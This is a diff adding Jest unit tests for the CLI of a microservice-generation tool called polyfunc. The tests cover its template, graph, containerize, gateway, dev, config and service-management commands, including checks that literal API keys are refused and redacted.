+    const loadTemplates = jest.spyOn(pipeline, 'loadTemplates').mockReturnValue({
+      list: () => [
+        { name: 'gin', language: 'go', library: 'gin', defaults: { port: 8080 }, source: 'builtin', description: 'Gin service', files: [] },
+        { name: 'koa', language: 'javascript', defaults: {}, source: 'user', files: [] }
+      ]
+    });
+    
+    cli.handlers.templates({});
+    
+    const output = log.mock.calls.map(call => call[0]).join('\n');
+    expect(output).toMatch(/gin\s+go\s+gin\s+8080\s+builtin\s+Gin service/);
+    expect(output).toMatch(/koa\s+javascript\s+-\s+-\s+user/);
+    [log, loadTemplates].forEach(spy => spy.mockRestore());
+  });
+
+  test('prompts command lists prompts with their versions and sources', () => {
+    const log = jest.spyOn(console, 'log').mockImplementation(() => {});
+    llm.getPrompts.mockReturnValue({
+      list: () => [
+        { name: 'requirements', version: 1, source: 'builtin', temperature: 0.2, description: 'Extract requirements' },
+        { name: 'code', version: 3, source: 'project', description: '' }
+      ]
+    });
+
+    cli.handlers.prompts({});
+
+    const output = log.mock.calls.map(call => call[0]).join('\n');
+    expect(output).toMatch(/code\s+3\s+project\s+-\s*\n/);
+    expect(output).toMatch(/requirements\s+1\s+builtin\s+0\.2\s+Extract requirements/);
+    expect(output.indexOf('code')).toBeLessThan(output.indexOf('requirements'));
+    expect(output).toContain(`${path.join('templates', 'prompts')}/<name>.yaml`);
+    log.mockRestore();
+  });
+
+  describe('graph', () => {
+    let write;
+    
+    beforeEach(() => {
+      write = jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
+    });
+    
+    afterEach(() => {
+      write.mockRestore();
+      process.exitCode = undefined;
+    });
+    
+    test('prints the recorded services as DOT with their startup order', async () => {
+      fs.promises.readFile.mockResolvedValueOnce(JSON.stringify({
+        version: 1,
+        services: {
+          orders: { name: 'orders', dependsOn: ['users'], consumes: [{ service: 'users', endpoints: ['GET /users/{id}'] }] },
+          users: { name: 'users' }
+        }
+      }));
+      
+      await cli.handlers.graph(undefined, { format: 'dot' });
+      
+      const output = write.mock.calls[0][0];
+      expect(output).toContain('// Startup order: users, orders');
+      expect(output).toContain('"orders" -> "users" [label="GET /users/{id}"];');
+    });
+    
+    test('graphs a fresh decomposition as JSON', async () => {
+      llm.decomposeService.mockResolvedValueOnce([
+        { name: 'Billing', purpose: 'Charge', dependsOn: ['Ledger'] },
+        { name: 'Ledger', purpose: 'Record' }
+      ]);
+      
+      await cli.handlers.graph('A payments system', { format: 'json' });
+      
+      const graph = JSON.parse(write.mock.calls[0][0]);
+      expect(graph.order).toEqual(['ledger', 'billing']);
+      expect(graph.edges).toEqual([{ from: 'billing', to: 'ledger', endpoints: [] }]);
+    });
+    
+    test('reports services that depend on unknown ones', async () => {
+      const error = jest.spyOn(console, 'error').mockImplementation(() => {});
+      fs.promises.readFile.mockResolvedValueOnce(JSON.stringify({
+        version: 1,
+        services: { orders: { name: 'orders', dependsOn: ['users'] } }
+      }));
+      
+      await cli.handlers.graph(undefined, { format: 'mermaid' });
+      
+      expect(error).toHaveBeenCalledWith('Invalid service graph:\n[0].dependsOn[0]: unknown service "users"');
+      expect(process.exitCode).toBe(1);
+      expect(write).not.toHaveBeenCalled();
+      error.mockRestore();
+    });
+  });
+  
+  describe('containerize', () => {
+    let log;
+    let warn;
+    
+    beforeEach(() => {
+      log = jest.spyOn(console, 'log').mockImplementation(() => {});
+      warn = jest.spyOn(console, 'warn').mockImplementation(() => {});
+      jest.spyOn(pipeline, 'collectServices').mockResolvedValue([
+        { name: 'orders', path: 'services/orders', language: 'javascript', port: 4000, dependsOn: ['users'], files: [{ path: 'package.json', content: '{}' }] },
+        { name: 'users', path: 'services/users', dependsOn: [], files: [{ path: 'app.py', content: '' }] },
+        { name: 'notes', path: 'services/notes', dependsOn: [], files: [{ path: 'NOTES.md', content: '' }] },
+        { name: 'gone', path: 'services/gone', language: 'go', dependsOn: [], files: null }
+      ]);
+      jest.spyOn(pipeline, 'writeGeneratedFiles').mockImplementation(async (directory, files) => ({
+        files: files.map(file => ({ path: file.filename, status: 'created' })),
+        rejected: []
+      }));
+    });
+    
+    afterEach(() => {
+      [log, warn, pipeline.collectServices, pipeline.writeGeneratedFiles].forEach(spy => spy.mockRestore());
+    });
+    
+    test('writes a Dockerfile per service and a compose file for all of them', async () => {
+      await cli.handlers.containerize([], { composeFile: 'docker-compose.yml' });
+      
+      const writes = pipeline.writeGeneratedFiles.mock.calls;
+      expect(writes.map(call => [call[0], call[1].map(file => file.filename)])).toEqual([
+        ['services/orders', ['Dockerfile', '.dockerignore']],
+        ['services/users', ['Dockerfile', '.dockerignore']],
+        ['.', ['docker-compose.yml']]
+      ]);
+      expect(writes[0][1][0].content).toContain('EXPOSE 4000');
+      expect(writes[1][1][0].content).toContain('FROM python:3.12-slim');
+      expect(writes[2][1][0].content).toContain('USERS_URL: http://users:5000');
+      expect(writes[0][2]).toEqual({ marker: expect.any(String), force: undefined, dryRun: undefined });
+      expect(warn).toHaveBeenCalledWith('Skipping notes: no Dockerfile recipe for an unrecognised language');
+      expect(warn).toHaveBeenCalledWith('Skipping gone: services/gone does not exist');
+      expect(log).toHaveBeenCalledWith('\nHost ports: orders 4000, users 5000');
+    });
+    
+    test('only packages the named services and can skip the compose file', async () => {
+      await cli.handlers.containerize(['users'], { compose: false, dryRun: true });
+      
+      const writes = pipeline.writeGeneratedFiles.mock.calls;
+      expect(writes.map(call => call[0])).toEqual(['services/users']);
+      expect(writes[0][2].dryRun).toBe(true);
+      expect(log).toHaveBeenCalledWith('\nDry run: nothing was written');
+    });
+    
+    test('rejects unknown service names', async () => {
+      const error = jest.spyOn(console, 'error').mockImplementation(() => {});
+      
+      await cli.handlers.containerize(['billing'], {});
+      
+      expect(error).toHaveBeenCalledWith('Unknown service(s): billing');
+      expect(pipeline.writeGeneratedFiles).not.toHaveBeenCalled();
+      error.mockRestore();
+    });
+  });
+  
+  describe('contracts check', () => {
+    const usersContract = [
+      'openapi: 3.0.3',
+      'info: { title: users, version: 1.0.0 }',
+      'paths:',
+      '  /users/{id}:',
+      '    get: { responses: { "200": { description: A user } } }',
+      ''
+    ].join('\n');
+    let log;
+    let error;
+    let warn;
+    
+    beforeEach(() => {
+      log = jest.spyOn(console, 'log').mockImplementation(() => {});
+      error = jest.spyOn(console, 'error').mockImplementation(() => {});
+      warn = jest.spyOn(console, 'warn').mockImplementation(() => {});
+      jest.spyOn(pipeline, 'collectServices').mockResolvedValue([
+        {
+          name: 'orders',
+          path: 'services/orders',
+          dependsOn: ['users'],
+          consumes: [],
+          files: [{ path: 'index.js', content: 'const base = process.env.USERS_URL;\naxios.delete(`${base}/users/${id}`);\n' }]
+        },
+        { name: 'users', path: 'services/users', dependsOn: [], consumes: [], files: [{ path: 'openapi.yaml', content: usersContract }] }
+      ]);
+    });
+    
+    afterEach(() => {
+      [log, error, warn, pipeline.collectServices].forEach(spy => spy.mockRestore());
+      process.exitCode = undefined;
+    });
+    
+    test('reports calls missing from the callee contract and fails', async () => {
+      await cli.handlers.contractsCheck([], {});
+      
+      expect(error).toHaveBeenCalledWith(
+        'orders: index.js:2: DELETE /users/{} is not in the contract of users (GET /users/{id})'
+      );
+      expect(log).toHaveBeenCalledWith('\n1 contract violation(s) in 2 service(s)');
+      expect(process.exitCode).toBe(1);
+    });
+    
+    test('only checks the named services', async () => {
+      await cli.handlers.contractsCheck(['users'], {});
+      
+      expect(error).not.toHaveBeenCalled();
+      expect(log).toHaveBeenCalledWith('Contracts match across 1 service(s)');
+      expect(process.exitCode).toBeUndefined();
+    });
+    
+    test('rejects unknown service names', async () => {
+      await cli.handlers.contractsCheck(['billing'], {});
+      
+      expect(error).toHaveBeenCalledWith('Unknown service(s): billing');
+    });
+  });
+  
+  describe('gateway', () => {
+    let log;
+    let error;
+    let warn;
+    
+    beforeEach(() => {
+      log = jest.spyOn(console, 'log').mockImplementation(() => {});
+      error = jest.spyOn(console, 'error').mockImplementation(() => {});
+      warn = jest.spyOn(console, 'warn').mockImplementation(() => {});
+      jest.spyOn(pipeline, 'collectServices').mockResolvedValue([
+        { name: 'users', path: 'services/users', port: 5000, endpoints: ['GET /users/{id}'], files: [] },
+        { name: 'notes', path: 'services/notes', endpoints: [], files: [] },
+        { name: 'gone', path: 'services/gone', endpoints: ['GET /gone'], files: null }
+      ]);
+      jest.spyOn(pipeline, 'writeGeneratedFiles').mockImplementation(async (directory, files) => ({
+        files: files.map(file => ({ path: file.filename, status: 'created' })),
+        rejected: []
+      }));
+    });
+    
+    afterEach(() => {
+      [log, error, warn, pipeline.collectServices, pipeline.writeGeneratedFiles].forEach(spy => spy.mockRestore());
+      process.exitCode = undefined;
+    });
+    
+    test('writes the configuration for the recorded services', async () => {
+      await cli.handlers.gateway(undefined, { format: 'envoy', out: 'deploy' });
+      
+      const [directory, files, options] = pipeline.writeGeneratedFiles.mock.calls[0];
+      expect(directory).toBe('deploy');
+      expect(files[0].filename).toBe('envoy.yaml');
+      expect(files[0].content).toContain('address: users');
+      expect(files[0].content).not.toContain('gone');
+      expect(options).toEqual({ marker: '# Generated by polyfunc gateway', force: undefined, dryRun: undefined });
+      expect(warn).toHaveBeenCalledWith('notes declares no endpoints and is not routed; use --prefix to mount it under /notes');
+      expect(log).toHaveBeenCalledWith(`\nWrote ${path.join('deploy', 'envoy.yaml')} (created)`);
+    });
+    
+    test('routes a fresh decomposition and reports route conflicts', async () => {
+      llm.decomposeService.mockResolvedValueOnce([
+        { name: 'Users', endpoints: ['GET /users'] },
+        { name: 'Accounts', endpoints: ['POST /users'] }
+      ]);
+      
+      await cli.handlers.gateway('A shop', {});
+      
+      expect(error).toHaveBeenCalledWith('Route conflict: /users is served by users (GET) and accounts (POST)');
+      expect(pipeline.writeGeneratedFiles).not.toHaveBeenCalled();
+      expect(process.exitCode).toBe(1);
+    });
+    
+    test('runs the built-in proxy against local services with --serve', async () => {
+      const { GatewayProxy } = require('../../src/gateway/proxy');
+      const listen = jest.spyOn(GatewayProxy.prototype, 'listen').mockResolvedValue(9000);
+      
+      await cli.handlers.gateway(undefined, { serve: true, port: 9000 });
+      
+      expect(listen).toHaveBeenCalledWith(9000, undefined);
+      expect(listen.mock.instances[0].routes[0].upstream).toEqual({ host: '127.0.0.1', port: 5000 });
+      expect(log).toHaveBeenCalledWith('\nGateway listening on http://127.0.0.1:9000 (Ctrl+C to stop)');
+      expect(pipeline.writeGeneratedFiles).not.toHaveBeenCalled();
+      listen.mockRestore();
+    });
+  });
+  
+  describe('dev', () => {
+    let log;
+    let warn;
+    let start;
+    let stop;
+    let signals;
+    
+    beforeEach(() => {
+      signals = { SIGINT: process.listeners('SIGINT'), SIGTERM: process.listeners('SIGTERM') };
+      log = jest.spyOn(console, 'log').mockImplementation(() => {});
+      warn = jest.spyOn(console, 'warn').mockImplementation(() => {});
+      const { DevRunner } = require('../../src/dev/runner');
+      start = jest.spyOn(DevRunner.prototype, 'start').mockResolvedValue();
+      stop = jest.spyOn(DevRunner.prototype, 'stop').mockResolvedValue();
+      jest.spyOn(pipeline, 'collectServices').mockResolvedValue([
+        { name: 'orders', path: 'services/orders', port: 45123, dependsOn: ['users', 'billing'], files: [{ path: 'main.go', content: '' }] },
+        { name: 'users', path: 'services/users', language: 'python', port: 45124, dependsOn: [], files: [{ path: 'app.py', content: '' }] },
+        { name: 'notes', path: 'services/notes', dependsOn: [], files: [{ path: 'NOTES.md', content: '' }] }
+      ]);
+    });
+    
+    afterEach(() => {
+      ['SIGINT', 'SIGTERM'].forEach(signal => {
+        process.listeners(signal).filter(listener => !signals[signal].includes(listener))
+          .forEach(listener => process.removeListener(signal, listener));
+      });
+      [log, warn, start, stop, pipeline.collectServices].forEach(spy => spy.mockRestore());
+    });
+    
+    test('starts dependencies first and stops everything on Ctrl+C', async () => {
+      await cli.handlers.dev([], { color: false });
+      
+      expect(warn).toHaveBeenCalledWith('Skipping notes: no run command for an unrecognised language');
+      const runner = start.mock.instances[0];
+      expect([...runner.plans.keys()]).toEqual(['users', 'orders']);
+      expect(runner.plans.get('orders').env).toEqual({ PORT: '45123', USERS_URL: 'http://127.0.0.1:45124' });
+      expect(runner.color).toBe(false);
+      expect(runner.watch).toBe(true);
+      
+      process.emit('SIGINT');
+      expect(stop).toHaveBeenCalled();
+      expect(process.listenerCount('SIGTERM')).toBe(0);
+    });
+    
+    test('only runs the named services', async () => {
+      await cli.handlers.dev(['users'], { watch: false });
+      
+      const runner = start.mock.instances[0];
+      expect([...runner.plans.keys()]).toEqual(['users']);
+      expect(runner.plans.get('users').env).toEqual({ PORT: '45124' });
+      expect(runner.watch).toBe(false);
+    });
+  });
+
+  describe('config validate', () => {
+    let log;
+    let error;
+
+    beforeEach(() => {
+      log = jest.spyOn(console, 'log').mockImplementation(() => {});
+      error = jest.spyOn(console, 'error').mockImplementation(() => {});
+      config.readFile.mockReturnValue({ langauges: {} });
+    });
+
+    afterEach(() => {
+      [log, error].forEach(spy => spy.mockRestore());
+      process.exitCode = undefined;
+    });
+
+    test('reports every error in a file with the key path', async () => {
+      config.validate.mockReturnValue([
+        { path: 'langauges', message: 'is not an allowed property, did you mean "languages"?' },
+        { path: 'llm.provider', message: 'expected string, got integer' }
+      ]);
+
+      await cli.handlers.configValidate('polyfunc.yaml', {});
+
+      expect(config.readFile).toHaveBeenCalledWith('polyfunc.yaml');
+      expect(config.validate).toHaveBeenCalledWith({ langauges: {} });
+      expect(config.load).not.toHaveBeenCalled();
+      expect(error).toHaveBeenCalledWith([
+        'polyfunc.yaml: langauges: is not an allowed property, did you mean "languages"?',
+        'polyfunc.yaml: llm.provider: expected string, got integer'
+      ].join('\n'));
+      expect(log).toHaveBeenCalledWith('\n2 configuration error(s)');
+      expect(process.exitCode).toBe(1);
+    });
+
+    test('checks every layer when no file is given', async () => {
+      config.load.mockReturnValue(['default', 'project /app/polyfunc.yaml', 'env POLYFUNC_LLM__MODEL']);
+
+      await cli.handlers.configValidate(undefined, {});
+
+      expect(config.load).toHaveBeenCalledWith({ configFile: undefined, profile: undefined });
+      expect(log).toHaveBeenCalledWith([
+        'Configuration is valid, layers applied:',
+        '  default',
+        '  project /app/polyfunc.yaml',
+        '  env POLYFUNC_LLM__MODEL'
+      ].join('\n'));
+      expect(process.exitCode).toBeUndefined();
+
+      config.load.mockImplementation(() => {
+        throw new ConfigError([
+          { source: '/app/polyfunc.yaml', path: 'verify.rounds', message: 'must be >= 0' },
+          { source: 'POLYFUNC_LLM__MAX_TOKENS', path: 'llm.maxTokens', message: 'expected integer, got string' }
+        ]);
+      });
+      await cli.handlers.configValidate(undefined, {});
+
+      expect(error).toHaveBeenCalledWith([
+        '/app/polyfunc.yaml: verify.rounds: must be >= 0',
+        'POLYFUNC_LLM__MAX_TOKENS: llm.maxTokens: expected integer, got string'
+      ].join('\n'));
+      expect(process.exitCode).toBe(1);
+    });
+
+    test('fails when a file cannot be parsed', async () => {
+      config.readFile.mockImplementation(() => {
+        throw new Error('Unexpected token } in JSON at position 12');
+      });
+      await cli.handlers.configValidate('polyfunc.json', {});
+
+      expect(error).toHaveBeenCalledWith('Error validating configuration:', 'Unexpected token } in JSON at position 12');
+      expect(process.exitCode).toBe(1);
+    });
+
+    test('prints the errors as JSON', async () => {
+      config.validate.mockReturnValue([{ path: 'verify.rounds', message: 'must be >= 0' }]);
+
+      await cli.handlers.configValidate('polyfunc.json', { json: true });
+
+      expect(JSON.parse(log.mock.calls[0][0])).toEqual({
+        errors: [{ source: 'polyfunc.json', path: 'verify.rounds', message: 'must be >= 0' }]
+      });
+      expect(error).not.toHaveBeenCalled();
+    });
+  });
+
+  describe('config get, set, unset and list', () => {
+    const projectFile = '/app/polyfunc.yaml';
+    const yamlText = '# project settings\nllm:\n  model: gpt-4 # pinned\nlanguages:\n  rust:\n    priority: 4\n';
+    let log;
+    let error;
+    let file;
+    let save;
+
+    beforeEach(() => {
+      log = jest.spyOn(console, 'log').mockImplementation(() => {});
+      error = jest.spyOn(console, 'error').mockImplementation(() => {});
+      config.files = { user: '/home/dev/.config/polyfunc/config.yaml', project: projectFile };
+      config.validate.mockReturnValue([]);
+      jest.spyOn(ConfigFile, 'read').mockImplementation(filePath => {
+        file = new ConfigFile(filePath, filePath === projectFile ? yamlText : '');
+        return file;
+      });
+      save = jest.spyOn(ConfigFile.prototype, 'save').mockImplementation(() => {});
+    });
+
+    afterEach(() => {
+      [log, error, ConfigFile.read, save].forEach(spy => spy.mockRestore());
+      process.exitCode = undefined;
+    });
+
+    test('get prints the effective value of a key', () => {
+      config.getRedacted.mockImplementation(key => ({ 'llm.model': 'gpt-4o', 'languages.rust': { priority: 2 } })[key]);
+
+      cli.handlers.configGet('llm.model');
+      cli.handlers.configGet('languages.rust');
+      cli.handlers.configGet('llm.modle');
+
+      expect(log).toHaveBeenCalledWith('gpt-4o');
+      expect(log).toHaveBeenCalledWith(JSON.stringify({ priority: 2 }, null, 2));
+      expect(error).toHaveBeenCalledWith('llm.modle is not set');
+      expect(process.exitCode).toBe(1);
+    });
+
+    test('set writes a typed value to the project file and keeps its comments', () => {
+      cli.handlers.configSet('languages.rust.priority', '2', {});
+
+      expect(ConfigFile.read).toHaveBeenCalledWith(projectFile);
+      expect(config.validate).toHaveBeenCalledWith({ llm: { model: 'gpt-4' }, languages: { rust: { priority: 2 } } });
+      expect(save).toHaveBeenCalled();
+      expect(file.toString()).toBe('# project settings\nllm:\n  model: gpt-4 # pinned\nlanguages:\n  rust:\n    priority: 2\n');
+      expect(log).toHaveBeenCalledWith(`Set languages.rust.priority to 2 in ${projectFile}`);
+
+      cli.handlers.configSet('llm.model', '4', { user: true });
+      expect(ConfigFile.read).toHaveBeenLastCalledWith('/home/dev/.config/polyfunc/config.yaml');
+      expect(file.values()).toEqual({ llm: { model: '4' } });
+    });
+
+    test('set creates polyfunc.json when no project file was found', () => {
+      config.files = { user: null, project: null };
+
+      cli.handlers.configSet('verify.enabled', 'false', {});
+
+      expect(ConfigFile.read).toHaveBeenCalledWith(path.resolve('polyfunc.json'));
+      expect(file.toString()).toBe('{\n  "verify": {\n    "enabled": false\n  }\n}\n');
+    });
+
+    test('set refuses values that fail the schema and literal secrets', () => {
+      config.validate.mockReturnValue([{ path: 'languages.rust.priority', message: 'expected number, got string' }]);
+
+      cli.handlers.configSet('languages.rust.priority', 'high', {});
+
+      expect(error).toHaveBeenCalledWith(`${projectFile}: languages.rust.priority: expected number, got string`);
+      expect(save).not.toHaveBeenCalled();
+      expect(process.exitCode).toBe(1);
+
+      config.validate.mockReturnValue([]);
+      cli.handlers.configSet('llm.apiKey', 'sk-live-123', {});
+      expect(error).toHaveBeenCalledWith(expect.stringMatching(/^llm\.apiKey is a secret, set it to a reference/));
+      expect(save).not.toHaveBeenCalled();
+
+      cli.handlers.configSet('llm.apiKey', 'env:OPENAI_API_KEY', {});
+      expect(save).toHaveBeenCalled();
+    });
+
+    test('set refuses literal secrets in profiles too', () => {
+      cli.handlers.configSet('profiles.ci.llm.apiKey', 'sk-live-SECRET', {});
+
+      expect(error).toHaveBeenCalledWith(expect.stringMatching(/^profiles\.ci\.llm\.apiKey is a secret, set it to a reference/));
+      expect(save).not.toHaveBeenCalled();
+      expect(process.exitCode).toBe(1);
+
+      cli.handlers.configSet('profiles.ci.llm.apiKey', 'file:~/.polyfunc/ci-key', {});
+      expect(save).toHaveBeenCalled();
+      expect(file.get(['profiles', 'ci', 'llm', 'apiKey'])).toBe('file:~/.polyfunc/ci-key');
+    });
+
+    test('unset removes a key and reports keys the file does not set', () => {
+      cli.handlers.configUnset('languages.rust.priority', {});
+
+      expect(save).toHaveBeenCalled();
+      expect(file.toString()).toBe('# project settings\nllm:\n  model: gpt-4 # pinned\n');
+      expect(log).toHaveBeenCalledWith(`Removed languages.rust.priority from ${projectFile}`);
+
+      save.mockClear();
+      cli.handlers.configUnset('verify.rounds', {});
+      expect(error).toHaveBeenCalledWith(`verify.rounds is not set in ${projectFile}`);
+      expect(save).not.toHaveBeenCalled();
+      expect(process.exitCode).toBe(1);
+    });
+
+    test('list prints the values the file sets', () => {
+      cli.handlers.configList({});
+
+      expect(log).toHaveBeenCalledWith(`${projectFile}:`);
+      expect(log.mock.calls[1][0]).toMatch(/llm\.model\s+gpt-4/);
+      expect(log.mock.calls[1][0]).toMatch(/languages\.rust\.priority\s+4/);
+
+      cli.handlers.configList({ user: true });
+      expect(log).toHaveBeenLastCalledWith('/home/dev/.config/polyfunc/config.yaml doesn\'t set any values');
+
+      cli.handlers.configList({ json: true });
+      expect(JSON.parse(log.mock.calls[log.mock.calls.length - 1][0])).toEqual({ llm: { model: 'gpt-4' }, languages: { rust: { priority: 4 } } });
+    });
+
+    test('list redacts literal secrets, including the ones in profiles', () => {
+      jest.spyOn(ConfigFile, 'read').mockImplementation(filePath => new ConfigFile(filePath,
+        'llm:\n  apiKey: sk-top-SECRET\nprofiles:\n  ci:\n    llm:\n      apiKey: sk-live-SECRET\n  local:\n    llm:\n      apiKey: env:LOCAL_KEY\n'));
+
+      cli.handlers.configList({});
+      const table = log.mock.calls[1][0];
+      expect(table).toMatch(/profiles\.ci\.llm\.apiKey\s+\[redacted\]/);
+      expect(table).toMatch(/profiles\.local\.llm\.apiKey\s+env:LOCAL_KEY/);
+      expect(table).not.toContain('SECRET');
+
+      cli.handlers.configList({ json: true });
+      const json = log.mock.calls[log.mock.calls.length - 1][0];
+      expect(JSON.parse(json)).toEqual({
+        llm: { apiKey: '[redacted]' },
+        profiles: { ci: { llm: { apiKey: '[redacted]' } }, local: { llm: { apiKey: 'env:LOCAL_KEY' } } }
+      });
+      expect(json).not.toContain('SECRET');
+    });
+  });
+
+  test('a broken language plugin is reported as a command error', async () => {
+    const loadLanguageProfiles = jest.spyOn(profileLoader, 'loadLanguageProfiles').mockImplementation(() => {
+      throw new Error('Invalid language plugin languages/zig.json:\nname: is required');
+    });
+    const stderr = jest.spyOn(process.stderr, 'write').mockImplementation(() => true);
+    config.load.mockImplementation(() => ['default']);
+    cli.program.exitOverride();
+    
+    const error = await cli.program.parseAsync(['node', 'polyfunc', 'languages']).catch(e => e);
+    
+    expect(error.code).toBe('commander.error');
+    expect(error.exitCode).toBe(1);
+    expect(stderr).toHaveBeenCalledWith('Invalid language plugin languages/zig.json:\nname: is required\n');
+    [loadLanguageProfiles, stderr].forEach(spy => spy.mockRestore());
+  });
+  
+  describe('config show', () => {
+    let log;
+
+    beforeEach(() => {
+      log = jest.spyOn(console, 'log').mockImplementation(() => {});
+      config.entries.mockReturnValue([
+        { key: 'llm.provider', value: 'anthropic', origin: 'project /app/polyfunc.yaml' },
+        { key: 'llm.model', value: 'claude-test', origin: 'env POLYFUNC_LLM__MODEL' },
+        { key: 'llm.apiKey', value: 'env:OPENAI_API_KEY', origin: 'default' },
+        { key: 'languages.go.useCase', value: ['cli'], origin: 'profile ci (/app/polyfunc.yaml)' }
+      ]);
+      config.profile = 'ci';
+    });
+
+    afterEach(() => {
+      log.mockRestore();
+      delete config.profile;
+    });
+
+    test('prints each value with the layer it comes from', () => {
+      cli.handlers.configShow({ origin: true });
+
+      const table = log.mock.calls[0][0];
+      expect(table).toMatch(/llm\.model\s+claude-test\s+env POLYFUNC_LLM__MODEL/);
+      expect(table).toMatch(/languages\.go\.useCase\s+\["cli"\]\s+profile ci \(\/app\/polyfunc\.yaml\)/);
+      expect(table).toMatch(/llm\.apiKey\s+env:OPENAI_API_KEY\s+default/);
+      expect(log).toHaveBeenCalledWith('\nProfile: ci');
+    });
+
+    test('leaves the origins out unless asked and prints JSON', () => {
+      cli.handlers.configShow({});
+      expect(log.mock.calls[0][0]).not.toContain('POLYFUNC_LLM__MODEL');
+
+      cli.handlers.configShow({ json: true });
+      expect(JSON.parse(log.mock.calls[2][0])).toEqual({
+        'llm.provider': 'anthropic',
+        'llm.model': 'claude-test',
+        'llm.apiKey': 'env:OPENAI_API_KEY',
+        'languages.go.useCase': ['cli']
+      });
+    });
+  });
+
+  describe('services commands', () => {
+    const lock = JSON.stringify({
+      version: 1,
+      services: {
+        orders: {
+          name: 'orders',
+          description: 'Stores orders',
+          language: 'go',
+          score: 8,
+          path: 'services/orders',
+          model: { provider: 'openai', name: 'gpt-4' },
+          prompts: { requirements: 'aaa', code: { version: 2, source: 'project', hash: 'bbb' } },
+          files: [{ path: 'main.go', sha256: 'ccc', size: 12 }],
+          generatedAt: '2026-01-01T00:00:00.000Z'
+        }
+      }
+    });
+    let log;
+    
+    beforeEach(() => {
+      log = jest.spyOn(console, 'log').mockImplementation(() => {});
+      fs.promises.readFile.mockResolvedValueOnce(lock);
+    });
+    
+    afterEach(() => {
+      log.mockRestore();
+    });
+    
+    test('list renders one row per service', async () => {
+      await cli.handlers.servicesList({});
+      
+      const output = log.mock.calls.map(call => call[0]).join('\n');
+      expect(output).toMatch(/orders\s+go\s+8\.00\s+1\s+2026-01-01T00:00:00\.000Z/);
+    });
+    
+    test('show prints the model, prompt hashes and files', async () => {
+      await cli.handlers.servicesShow('orders', {});
+      
+      const output = log.mock.calls.map(call => call[0]).join('\n');
+      expect(output).toContain('Model: openai/gpt-4');
+      expect(output).toContain('Prompt requirements: aaa');
+      expect(output).toContain('Prompt code: v2 (project) bbb');
+      expect(output).toContain('main.go  ccc');
+    });
+    
+    test('show reports unknown services', async () => {
+      const error = jest.spyOn(console, 'error').mockImplementation(() => {});
+      
+      await cli.handlers.servicesShow('missing', {});
+      
+      expect(error).toHaveBeenCalledWith('Unknown service: missing');
+      error.mockRestore();
+    });
+    
+    test('remove deletes the entry and leaves the directory alone', async () => {
+      await cli.handlers.servicesRemove('orders', {});
+      
+      expect(fs.promises.rm).not.toHaveBeenCalled();
+      const manifest = JSON.parse(fs.promises.writeFile.mock.calls.find(call => call[0] === 'polyfunc.lock')[1]);
+      expect(manifest.services).toEqual({});
+      expect(log).toHaveBeenCalledWith('Kept services/orders and its history, use --delete-files to delete them');
+    });
+    
+    test('remove --delete-files also deletes the service directory', async () => {
+      await cli.handlers.servicesRemove('orders', { deleteFiles: true });
+      
+      expect(fs.promises.rm).toHaveBeenCalledWith('services/orders', { recursive: true, force: true });
+      expect(log).toHaveBeenCalledWith('Deleted services/orders');
+    });
+    
+    test('remove --delete-files refuses a path outside the services directory', async () => {
+      const error = jest.spyOn(console, 'error').mockImplementation(() => {});
+      config.get.mockImplementation(key => (key === 'paths.services' ? 'elsewhere' : undefined));
+      
+      await cli.handlers.servicesRemove('orders', { deleteFiles: true });
+      
+      expect(fs.promises.rm).not.toHaveBeenCalled();
+      expect(fs.promises.writeFile).not.toHaveBeenCalled();
+      expect(error).toHaveBeenCalledWith('Refusing to delete services/orders: it is not inside the services directory elsewhere');
+      config.get.mockReset();
+      error.mockRestore();
+    });
+  });
+  
+  describe('update and rollback', () => {
+    const service = {
+      name: 'orders',
+      description: 'Stores orders',
+      language: 'go',
+      path: 'services/orders',
+      files: [],
+      generatedAt: '2026-01-01T00:00:00.000Z'
+    };
+    const lockWith = entry => JSON.stringify({ version: 1, services: { orders: entry } });
+    const current = [
+      { path: 'README.md', content: '# orders\n' },
+      { path: 'main.go', content: 'serve(8080)\n' }
+    ];
+    let log;
+    let error;
+    
+    beforeEach(() => {
+      log = jest.spyOn(console, 'log').mockImplementation(() => {});
+      error = jest.spyOn(console, 'error').mockImplementation(() => {});
+      jest.spyOn(pipeline, 'readServiceFiles').mockResolvedValue(current);
+      jest.spyOn(pipeline, 'syncService').mockImplementation(async (root, before, after) =>
+        after.map(file => ({ path: file.path, sha256: 'x', size: file.content.length })));
+    });
+    
+    afterEach(() => {
+      [log, error, pipeline.readServiceFiles, pipeline.syncService].forEach(spy => spy.mockRestore());
+    });
+    
+    const written = file => fs.promises.writeFile.mock.calls.find(call => call[0] === file);
+    
+    test('update snapshots the first generation, applies edits and records the change', async () => {
+      fs.promises.readFile.mockResolvedValueOnce(lockWith(service));
+      llm.promptRecord.mockReturnValue({ version: 1, source: 'builtin', hash: 'hash' });
+      llm.updateService.mockResolvedValueOnce({
+        summary: 'Read the port from the environment',
+        edits: [{ filename: 'main.go', action: 'replace', replacements: [{ search: '8080', replace: 'port()' }] }]
+      });
+      
+      await cli.handlers.update('orders', 'Make the port configurable', {});
+      
+      expect(error).not.toHaveBeenCalled();
+      expect(llm.updateService).toHaveBeenCalledWith('go', 'orders', current, 'Make the port configurable');
+      expect(JSON.parse(written(path.join('.polyfunc', 'history', 'orders', '1.json'))[1])).toEqual({
+        generation: 1,
+        change: 'initial generation',
+        createdAt: '2026-01-01T00:00:00.000Z',
+        files: current
+      });
+      expect(pipeline.syncService).toHaveBeenCalledWith('services/orders', current, [
+        { path: 'README.md', content: '# orders\n' },
+        { path: 'main.go', content: 'serve(port())\n' }
+      ]);
+      
+      const snapshot = JSON.parse(written(path.join('.polyfunc', 'history', 'orders', '2.json'))[1]);
+      expect(snapshot.files[1].content).toBe('serve(port())\n');
+      const manifest = JSON.parse(written('polyfunc.lock')[1]);
+      expect(manifest.services.orders.generation).toBe(2);
+      expect(manifest.services.orders.history).toEqual([{
+        generation: 2,
+        change: 'Make the port configurable',
+        summary: 'Read the port from the environment',
+        createdAt: expect.any(String),
+        prompt: { version: 1, source: 'builtin', hash: 'hash' }
+      }]);
+    });
+    
+    test('update reports edits that cannot be applied and writes nothing', async () => {
+      fs.promises.readFile.mockResolvedValueOnce(lockWith(service));
+      llm.updateService.mockResolvedValueOnce({
+        summary: 'x',
+        edits: [{ filename: 'main.go', action: 'replace', replacements: [{ search: 'nope', replace: '' }] }]
+      });
+      
+      await cli.handlers.update('orders', 'Break it', {});
+      
+      expect(error).toHaveBeenCalledWith('Error updating service:', expect.stringContaining('search text not found'));
+      expect(pipeline.syncService).not.toHaveBeenCalled();
+      expect(written('polyfunc.lock')).toBeUndefined();
+    });
